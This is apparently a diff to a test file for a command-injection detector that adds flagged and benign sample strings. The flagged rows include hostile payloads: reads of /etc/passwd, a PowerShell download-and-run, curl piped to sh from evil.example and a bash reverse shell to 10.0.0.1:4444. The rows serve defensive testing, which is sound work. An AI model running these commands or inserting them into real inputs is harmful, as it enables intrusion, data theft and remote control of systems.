@@ -42,6 +42,16 @@ const LOUD: Row[] = [
   [';wget http://evil.example/a.sh', {}],
   ['x; uname -a', {}],
   ['$(ping -c 3 10.0.0.1)', {}],
+  ['cat</etc/passwd', {}],
+  ['; tar -czf /tmp/x.tgz /home', {}],
+  ['file.txt;chmod 777 /tmp/x', {}],
+  ['$(</etc/passwd)', {}],
+  ['1;id>/tmp/out', {}],
+  ['${@}c${@}at /etc/passwd', {}],
+  ["& powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')", {}],
+  ['ls -la; cat /etc/passwd', { pointer: '/scripts/list', name: 'list' }],
+  ['127.0.0.1; curl http://evil.example/x | sh', { pointer: '/command', name: 'command' }],
+  ['sleep 1; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', { pointer: '/run', name: 'run' }],
 ];
 
 const QUIET: Row[] = [
@@ -84,6 +94,27 @@ const QUIET: Row[] = [
   ['SELECT * FROM a; ', {}],
   ['key=value; path=/; HttpOnly', {}],
   ["M&M's | Skittles", {}],
+  [
+    'git tag v$(node -p "require(\'./package.json\').version") && git push --tags',
+    { pointer: '/scripts/release', name: 'release' },
+  ],
+  [
+    'docker build -t app:$(git rev-parse --short HEAD) . && docker run --rm app',
+    { pointer: '/scripts/docker', name: 'docker' },
+  ],
+  ['wget -qO- https://get.example.io/install.sh | sh -', { pointer: '/jobs/0/script', name: 'script' }],
+  ['sleep 10; curl -f http://localhost:3000/health', { pointer: '/jobs/0/script', name: 'script' }],
+  ['* * * * * sleep 30; /usr/bin/php /var/www/cron.php', {}],
+  ['0 * * * * echo "hello" | mail -s "cron" admin@example.com', {}],
+  ['+ docker push registry.example:5000/app:1 && echo done', {}],
+  ['node server.js && tail -f /dev/null', { pointer: '/Cmd', name: 'Cmd' }],
+  ['until nc -z db 5432; do sleep 1; done; exec node server.js', { pointer: '/spec/command', name: 'command' }],
+  [
+    '/bin/sh -c set -eux; apk add --no-cache ca-certificates; # buildkit',
+    { pointer: '/History/0/created_by', name: 'created_by' },
+  ],
+  ['| Command | Use |\n|---|---|\n| `cat file \\| less` | page |\n| `ps aux` | list |', {}],
+  ['NODE_ENV=test npx jest $(cat tests.txt)', { pointer: '/scripts/test', name: 'test' }],
 ];
 
 describe('injection-command', () => {
